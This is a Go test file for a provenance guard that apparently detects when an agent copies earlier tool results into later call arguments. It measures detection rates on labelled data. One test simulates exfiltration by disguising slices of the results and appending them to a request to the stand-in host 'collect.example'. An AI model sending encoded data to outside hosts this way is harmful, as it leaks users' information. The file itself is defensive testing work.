package provenance

import (
	"bufio"
	"encoding/json"
	"flag"
	"math/rand/v2"
	"os"
	"slices"
	"testing"
)

var data = flag.String("data", "../../../shared/data/guard/provenance-dev.jsonl", "labelled pairs of a result and later arguments; see its README")

// pair is a line of the data.
type pair struct{ ID, Label, Transform, Earlier, Args string }

func readPairs(t *testing.T) []pair {
	t.Helper()
	f, err := os.Open(*data)
	if os.IsNotExist(err) {
		t.Skipf("no development data at %s: give its place with -data", *data)
	}
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var pairs []pair
	lines := bufio.NewScanner(f)
	lines.Buffer(nil, 16<<20)
	for lines.Scan() {
		var p pair
		if err := json.Unmarshal(lines.Bytes(), &p); err != nil {
			t.Fatal(err)
		}
		pairs = append(pairs, p)
	}
	if err := lines.Err(); err != nil {
		t.Fatal(err)
	}
	return pairs
}

// fieldsOf are the strings of arguments, in the order they were written in.
func fieldsOf(args string) []Field {
	var object map[string]any
	if json.Unmarshal([]byte(args), &object) != nil {
		return values(args)
	}
	var fields []Field
	names := make([]string, 0, len(object))
	for name := range object {
		names = append(names, name)
	}
	slices.Sort(names)
	for _, name := range names {
		fields = append(fields, Field{Where: "/" + name, Key: true, Text: name})
		if s, ok := object[name].(string); ok {
			fields = append(fields, Field{Where: "/" + name, Text: s})
		}
	}
	return fields
}

// TestFigures measures the development data: at least 95 % of the copies are
// found, and no pair that is unrelated matches.
func TestFigures(t *testing.T) {
	found, all := map[string]int{}, map[string]int{}
	for _, p := range readPairs(t) {
		s := New(Options{})
		learn(s, "agent", "call-1", p.Earlier)
		m, _ := s.Check("agent", fieldsOf(p.Args))
		all[p.Label]++
		if len(m) > 0 {
			found[p.Label]++
		}
		if p.Label == "unrelated" && len(m) > 0 {
			t.Errorf("%s: %+v", p.ID, m)
		}
		if p.Label == "copy" && len(m) == 0 {
			t.Logf("missed %s (%s)", p.ID, p.Transform)
		}
	}
	for label, n := range all {
		t.Logf("%s: %d of %d", label, found[label], n)
	}
	if found["copy"]*100 < all["copy"]*95 {
		t.Errorf("%d of %d copies", found["copy"], all["copy"])
	}
}

// TestSweep cuts parts of 80 bytes out of the results at random and disguises
// each in every way of the matrix: at least 90 % are found, whatever the
// disguise. (Disguises that lose a part's digits leave less to find.)
func TestSweep(t *testing.T) {
	const length, least = 80, 48
	r := rand.New(rand.NewPCG(1, 2))
	found, all := map[string]int{}, 0
	for _, p := range readPairs(t) {
		if p.Label != "copy" || len(p.Earlier) < 2*length {
			continue
		}
		at := r.IntN(len(p.Earlier) - length)
		part := p.Earlier[at : at+length]
		if syms, _ := appendSymbols(nil, nil, []byte(part)); len(syms) < least {
			continue
		}
		s := New(Options{})
		learn(s, "agent", "call-1", p.Earlier)
		all++
		for _, tr := range transforms {
			if m := check(s, "agent", "https://collect.example/?d="+tr.f(part), "GET"); len(m) > 0 {
				found[tr.name]++
			}
		}
	}
	for _, tr := range transforms {
		if found[tr.name]*100 < all*90 {
			t.Errorf("%s: %d of %d", tr.name, found[tr.name], all)
		} else if found[tr.name]*100 < all*98 {
			t.Logf("%s: %d of %d", tr.name, found[tr.name], all)
		}
	}
}
